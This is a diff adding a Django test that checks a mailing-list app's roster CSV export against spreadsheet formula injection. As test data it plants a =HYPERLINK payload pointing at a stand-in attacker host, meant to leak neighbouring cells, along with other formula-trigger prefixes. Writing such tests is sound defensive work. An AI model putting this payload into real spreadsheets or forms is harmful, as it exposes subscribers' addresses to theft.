@@ -507,3 +507,34 @@ def test_moderators_of_a_list_whose_archive_only_owners_read_still_moderate(clie
         other = client_as(persona)
         assert other.get("/manage/secret/held/").status_code == 404, persona
         other.logout()
+
+
+def test_the_roster_csv_holds_no_formula_a_subscriber_typed(client_as, lists_with_roles):
+    """A name typed into the public subscribe form (or a member's options page) reaches the owners'
+    roster export: a cell starting with = + - @ (or a tab or carriage return before one) is a formula to
+    a spreadsheet, and =HYPERLINK(...) would send the rows beside it to whoever wrote it when the owner
+    clicks. Such cells are written with a leading ' (OWASP's advice), shown as typed; others as they are."""
+    import csv
+    import io
+    import time
+
+    from django.core import signing
+
+    from listhaven.lists.members import add_member
+    from listhaven.lists.models import Pending
+    from listhaven.lists.subscriptions import confirm
+    from listhaven.web.views.members import guard
+
+    hostile = '=HYPERLINK("https://evil.example/?"&A2,"Details")'
+    shown = signing.dumps(int(time.time()) - 60, salt=guard._SALT)
+    client_as("anonymous").post("/listinfo/garden", {"address": "eve@example.net", "name": hostile, "shown": shown})
+    confirm(Pending.objects.filter(address="eve@example.net").latest("id"))
+    names = ["+1+1", "-2", "@SUM(1,1)", "\t=1", "\r=1", "Ann = Bob", "Zoë"]
+    for n, name in enumerate(names):
+        add_member(lists_with_roles["garden"], f"named{n}@example.org", display_name=name)
+    body = b"".join(client_as("owner").get("/manage/garden/members.csv").streaming_content).decode()
+    rows = {row[0]: row[1] for row in csv.reader(io.StringIO(body))}
+    assert rows["eve@example.net"] == "'" + hostile
+    assert [rows[f"named{n}@example.org"] for n in range(len(names))] == [
+        "'+1+1", "'-2", "'@SUM(1,1)", "'\t=1", "'\r=1", "Ann = Bob", "Zoë"]  # fmt: skip
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in csv.reader(io.StringIO(body)) for cell in row)
